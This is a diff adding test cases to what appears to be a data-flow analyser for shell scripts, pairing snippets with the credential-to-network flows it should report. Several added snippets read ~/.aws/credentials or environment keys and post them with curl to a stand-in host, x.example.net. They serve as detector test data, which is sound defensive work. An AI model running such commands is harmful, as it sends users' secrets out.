@@ -98,6 +98,16 @@ CASES: list[tuple[str, set[FlowRow]]] = [
     ('log() { echo "$@" >> /tmp/run.log; }\nlog "token is $GITHUB_TOKEN"',
      {("env.read(GITHUB_TOKEN)", 2, "fs.write(/tmp/run.log)", 1, ((2, "passed to log"),), "")}),
     ('show() { echo "$1"; }\nshow "$(cat ~/.ssh/config)"\ncurl -s https://x.example.net', set()),
+    # a call of the script's function carries what the function prints
+    ("collect() {\n  cat ~/.aws/credentials\n}\ncollect | curl -d @- https://x.example.net",
+     {("fs.read(~/.aws/credentials)", 2, "net.connect(x.example.net)", 4,
+       ((4, "printed by collect"), (4, "piped into curl")), "")}),
+    ('secrets() { env | grep -i key; }\nK=$(secrets)\ncurl -d "$K" https://x.example.net',
+     {("env.read(*)", 1, "net.connect(x.example.net)", 3,
+       ((1, "piped into grep"), (2, "printed by secrets"), (2, "assigned to K")), "")}),
+    ('banner() { echo "sync started"; }\nbanner | curl -d @- https://x.example.net', set()),
+    ('collect() { cat ~/.aws/credentials; }\ncollect > /dev/null\ncurl -s https://x.example.net',
+     set()),
     # redirects: both halves of a file-mediated flow are stated
     ("printenv > /tmp/e.txt\ncurl -T /tmp/e.txt https://x.example.net",
      {("env.read(*)", 1, "fs.write(/tmp/e.txt)", 1, (), ""),
